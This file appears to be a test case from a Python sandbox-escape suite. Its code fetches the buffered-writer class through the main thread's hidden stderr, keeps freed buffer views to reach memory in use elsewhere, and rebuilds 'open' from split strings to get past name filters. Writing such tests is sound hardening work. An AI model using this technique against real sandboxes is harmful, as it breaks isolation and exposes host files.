# technique: the main thread keeps the stream for its errors, and with it the class of buffered writers
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
kept = []

class Raw:
    closed = False

    def write(self, view):
        kept.append(view)
        return len(view)

    def writable(self):
        return True

    seekable = readable = isatty = lambda self: False
    flush = close = lambda self: None

def trick():
    import threading
    kind = type(vars(threading.current_thread())["_stderr"].buffer)
    writer = kind(Raw(), 64)
    writer.write(b"a" * 48)
    writer.flush()
    del writer
    again = [bytearray(b"x" * 64) for _ in range(10)]
    if bytes(kept[0]) != b"a" * 48:
        reached("a view of memory that others use")
    # From here on it is native code; a program would not ask by name.
    import io
    return vars(io)["op" + "en"]

read_host(trick)
